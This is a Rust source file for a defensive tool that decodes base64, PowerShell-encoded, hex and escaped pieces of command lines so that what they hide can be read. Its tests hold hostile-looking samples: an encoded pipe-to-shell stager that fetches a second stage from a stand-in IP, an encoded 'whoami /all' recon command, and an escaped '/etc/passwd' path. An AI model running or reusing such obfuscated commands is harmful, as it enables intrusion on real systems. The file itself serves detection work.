//! What command lines hide: base64, UTF-16 in base64 as PowerShell takes it, hexadecimal digits and
//! escapes, layer by layer.
//!
//! Nothing is run. What does not decode to readable text is left out.

/// Layers taken off.
const LAYERS_MAX: usize = 4;
/// Pieces decoded of one text.
const PIECES_MAX: usize = 16;
/// Characters of all decoded text.
const CHARS_MAX: usize = 16 * 1024;
/// Fewest letters of an encoded piece: shorter runs are ordinary words.
const BASE64_MIN: usize = 16;
const HEX_MIN: usize = 16;
/// Escapes in a row that are worth reading.
const ESCAPES_MIN: usize = 4;
/// Longest text looked at, bytes.
const TEXT_BYTES_MAX: usize = 64 * 1024;

/// Returns what a command line hides, the outer layers first; empty when it hides nothing readable.
pub fn decoded(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let mut layer = vec![text.to_owned()];
    let mut left = CHARS_MAX;
    for _ in 0..LAYERS_MAX {
        let mut next = Vec::new();
        for text in &layer {
            for piece in pieces(text) {
                let size = piece.chars().count();
                let known = found.contains(&piece) || layer.contains(&piece);
                if !known && size <= left && found.len() < PIECES_MAX {
                    left -= size;
                    found.push(piece.clone());
                    next.push(piece);
                }
            }
        }
        if next.is_empty() {
            break;
        }
        layer = next;
    }
    found
}

fn pieces(text: &str) -> Vec<String> {
    let mut end = text.len().min(TEXT_BYTES_MAX);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let text = &text[..end];
    let encoded = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_');
    let mut found: Vec<String> = escapes(text).into_iter().collect();
    for run in text.split(|c: char| !encoded(c)) {
        // without `key=` in front of the value
        let digits = run.trim_end_matches('=');
        let run = &run[digits.rfind('=').map_or(0, |at| at + 1)..];
        let hex = run.strip_prefix("0x").unwrap_or(run);
        if hex.len() >= HEX_MIN && hex.len().is_multiple_of(2) && hex.bytes().all(|byte| byte.is_ascii_hexdigit()) {
            found.extend(from_hex(hex).as_deref().and_then(readable));
            continue;
        }
        if run.trim_end_matches('=').len() >= BASE64_MIN {
            found.extend(from_base64(run).as_deref().and_then(readable));
        }
    }
    found
}

/// Reads `\x41`, `\u0041` and `%41` escapes where several follow each other.
fn escapes(text: &str) -> Option<String> {
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let mut rest = text;
    let mut count = 0;
    while let Some(first) = rest.chars().next() {
        let (skip, digits) = match rest.as_bytes() {
            [b'\\', b'x', ..] => (2, 2),
            [b'\\', b'u', ..] => (2, 4),
            [b'%', ..] => (1, 2),
            _ => (0, 0),
        };
        let code = rest.get(skip..skip + digits).filter(|_| digits > 0);
        let code = code.filter(|code| code.bytes().all(|byte| byte.is_ascii_hexdigit()));
        if let Some(code) = code.and_then(|code| u32::from_str_radix(code, 16).ok()) {
            count += 1;
            if digits == 2 {
                out.push(code as u8);
            } else {
                let mut buffer = [0; 4];
                out.extend(char::from_u32(code).unwrap_or('\u{fffd}').encode_utf8(&mut buffer).as_bytes());
            }
            rest = &rest[skip + digits..];
        } else {
            let mut buffer = [0; 4];
            out.extend(first.encode_utf8(&mut buffer).as_bytes());
            rest = &rest[first.len_utf8()..];
        }
    }
    if count < ESCAPES_MIN {
        return None;
    }
    readable(&out)
}

fn from_hex(text: &str) -> Option<Vec<u8>> {
    (0..text.len()).step_by(2).map(|at| u8::from_str_radix(text.get(at..at + 2)?, 16).ok()).collect()
}

/// Decodes both alphabets of RFC 4648, with or without padding.
fn from_base64(text: &str) -> Option<Vec<u8>> {
    let digits = text.trim_end_matches('=').as_bytes();
    if digits.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(digits.len() * 3 / 4);
    for group in digits.chunks(4) {
        let mut bits: u32 = 0;
        for (at, digit) in group.iter().enumerate() {
            let value = match digit {
                b'A'..=b'Z' => digit - b'A',
                b'a'..=b'z' => digit - b'a' + 26,
                b'0'..=b'9' => digit - b'0' + 52,
                b'+' | b'-' => 62,
                b'/' | b'_' => 63,
                _ => return None,
            };
            bits |= u32::from(value) << (18 - 6 * at);
        }
        let bytes = [(bits >> 16) as u8, (bits >> 8) as u8, bits as u8];
        out.extend(&bytes[..group.len() - 1]);
    }
    Some(out)
}

/// Bytes as text a person can read: UTF-8, or UTF-16 as PowerShell encodes commands.
fn readable(bytes: &[u8]) -> Option<String> {
    let wide = bytes.len() >= 8
        && bytes.len().is_multiple_of(2)
        && bytes.chunks(2).filter(|pair| pair[1] == 0).count() * 4 >= bytes.len();
    let text = if wide {
        let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes.to_vec()).ok()?
    };
    let text = text.trim_matches(['\0', '\n', '\r', ' ']).to_owned();
    let total = text.chars().count();
    let plain = |c: &char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    let words = text.chars().filter(|c| c.is_alphanumeric() || matches!(c, ' ' | '/' | '.' | '-')).count();
    let good = total >= 4 && text.chars().filter(plain).count() == total && words * 10 >= total * 6;
    good.then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_is_hidden_is_read() {
        for (line, hidden) in [
            (
                "sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L3N0YWdlMg== | base64 -d | sh",
                "curl http://203.0.113.77/stage2",
            ),
            ("powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", "whoami /all"),
            ("printf '\\x77\\x68\\x6f\\x61\\x6d\\x69'", "printf 'whoami'"),
            ("xxd -r -p <<< 6375726c20687474703a2f2f782e746573742f61", "curl http://x.test/a"),
            ("open?u=%2Fetc%2Fpasswd%20%26", "open?u=/etc/passwd &"),
            ("run --data=Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L3N0YWdlMg", "curl http://203.0.113.77/stage2"),
        ] {
            assert_eq!(decoded(line), [hidden], "{line}");
        }
        // a layer inside a layer
        let inner = "ZWNobyBZM1Z5YkNCb2RIUndPaTh2TWpBekxqQXVNVEV6TGpjM0wzTjBZV2RsTWc9PSB8IGJhc2U2NCAtZA==";
        let found = decoded(&format!("sh -c {inner}"));
        assert_eq!(found.last().map(String::as_str), Some("curl http://203.0.113.77/stage2"), "{found:?}");
    }

    #[test]
    fn what_hides_nothing_stays() {
        for line in [
            "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal",
            "git show 9fceb02d0ae598e95dc970b74767f19372d61af8",
            "/usr/lib/systemd/systemd-networkd-wait-online",
            "java -Xmx512m org.apache.catalina.startup.Bootstrap start",
            "",
        ] {
            assert_eq!(decoded(line), Vec::<String>::new(), "{line}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read_within_limits(text in "\\PC{0,400}", digits in "[A-Za-z0-9+/=]{0,200}") {
            let found = decoded(&format!("{text} {digits}"));
            prop_assert!(found.len() <= PIECES_MAX);
            prop_assert!(found.iter().map(|piece| piece.chars().count()).sum::<usize>() <= CHARS_MAX);
        }
    }
}
